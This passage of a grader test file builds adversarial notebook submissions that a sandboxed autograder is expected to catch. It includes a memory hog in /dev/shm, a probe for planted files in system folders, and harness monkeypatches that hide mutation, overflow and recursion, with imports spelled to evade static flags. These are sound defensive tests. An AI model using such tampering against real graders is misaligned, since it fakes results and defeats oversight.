for folder in ("/dev", "/dev/shm", "/proc", "/", "/run", "/tmp", os.environ.get("HOME", "/tmp"), "/env", "/etc"):
    if os.path.exists(os.path.join(folder, "litter-" + @TOKEN@)):
        found.append(folder)
if found:
    raise RuntimeError("FINDER-HITS: " + ", ".join(found))""",
            TOKEN=ctx.token,
        )
    )


def tmpfs_hog(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook("""\
# ATTACK (memory outside the processes): fill /dev/shm and /tmp with files, whose pages belong to no
# process, then hold 250 MB more in the kernel. Expected: the files and the process together count
# against --memory-mb: the sandbox is stopped for the memory cap; 0 points.
import os, time
import numpy as np
for folder in ("/dev/shm", "/tmp"):
    try:
        with open(os.path.join(folder, "hog"), "wb") as handle:
            for _ in range(1024):
                handle.write(os.urandom(1 << 20))
    except OSError:
        pass
held = np.ones(250 * 2**20 // 8)
time.sleep(30)""")


# -- properties the kernel reports about itself (issue 20) -------------------------------------------
# Each of these solves a lesson from its solution notebook but breaks one property the checker
# requires (inputs unchanged, a stable formula, no recursion) in a function whose VALUES are right,
# then hides the breach by wrapping the harness that observes the call (imported under a spelling the
# static `reference-answers` flag does not see). On 00f9aa5 each scored full marks with no flag. The
# grader must fail that exercise (0 points) and flag the submission `harness-tampered`.

SOLUTION_02 = ROOT / "solutions" / "02_activations.ipynb"
SOLUTION_05 = ROOT / "solutions" / "05_chain_rule.ipynb"


def _solution_with(path: Path, name: str, source: str, *extra_cells: str) -> nbformat.NotebookNode:
    """The solution notebook with `def name(` replaced by source, and extra cells after it."""
    nb = nbformat.read(path, as_version=4)
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and f"def {name}(" in c.source)
    nb.cells[at].source = source
    for offset, cell in enumerate(extra_cells, start=1):
        nb.cells.insert(at + offset, new_code_cell(cell))
    return nb


def hide_mutation(ctx: Ctx) -> nbformat.NotebookNode:
    return _solution_with(
        SOLUTION_01,
        "weighted_sum",
        '''\
def weighted_sum(x, w, b):
    """Right value, but it changes the caller's x in place (the contract keeps inputs unchanged)."""
    x *= w
    return float(x.sum() + b)
''',
        """\
# ATTACK (hide a mutation): wrap the harness's observe so every observation reports `mutated: []`.
# Expected: weighted_sum scores 0 (the grader sees x changed), the submission is flagged harness-tampered.
import importlib

_h = importlib.import_module(".".join(["bpkit", "checks", "_harness"]))  # spelled so no static flag fires

_genuine_observe = _h.observe


def _observe_without_mutation(*args, **kwargs):
    observation = _genuine_observe(*args, **kwargs)
    if "mutated" in observation:
        observation["mutated"] = []
    return observation


_h.observe = _observe_without_mutation
""",
    )


def hide_overflow(ctx: Ctx) -> nbformat.NotebookNode:
    return _solution_with(
        SOLUTION_02,
        "sigmoid",
        '''\
def sigmoid(z):
    """The textbook formula: np.exp(-z) overflows for z = -1000 (the values still come out right)."""
    return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
''',
        """\
# ATTACK (switch off strict floating point): wrap observe so it always runs with strict_fp=False, so
# the overflow in np.exp(-z) is never raised. Expected: sigmoid scores 0, flagged harness-tampered.
import importlib

_h = importlib.import_module(".".join(["bpkit", "checks", "_harness"]))  # spelled so no static flag fires

_genuine_observe = _h.observe


def _observe_leniently(fn, args, kwargs, kind="plain", strict_fp=False, *rest, **options):
    options.pop("strict_fp", None)
    return _genuine_observe(fn, args, kwargs, kind, False, *rest, **options)


_h.observe = _observe_leniently
""",
    )


def hide_recursion(ctx: Ctx) -> nbformat.NotebookNode:
    return _solution_with(
        SOLUTION_05,
        "topological_order",
        '''\
import sys

sys.setrecursionlimit(1_000_000)  # enough for the 100,000-node chain: Python 3.11+ frames live on the heap


def topological_order(root):
    """micrograd's recursive build_topo: a valid order, but the exercise asks for no recursion."""
    topo, visited = [], set()

    def build_topo(v):
        if v not in visited:
            visited.add(v)
            for child in v.inputs:
                build_topo(child)
            topo.append(v)

    build_topo(root)
    return topo
''',
        """\
# ATTACK (drop the recursion report): wrap observe so observations lose their `recursion` entry.
# Expected: topological_order scores 0, flagged harness-tampered.
import importlib

_h = importlib.import_module(".".join(["bpkit", "checks", "_harness"]))  # spelled so no static flag fires

_genuine_observe = _h.observe


def _observe_without_recursion(*args, **kwargs):
    observation = _genuine_observe(*args, **kwargs)
    observation.pop("recursion", None)
    return observation


_h.observe = _observe_without_recursion
""",
    )
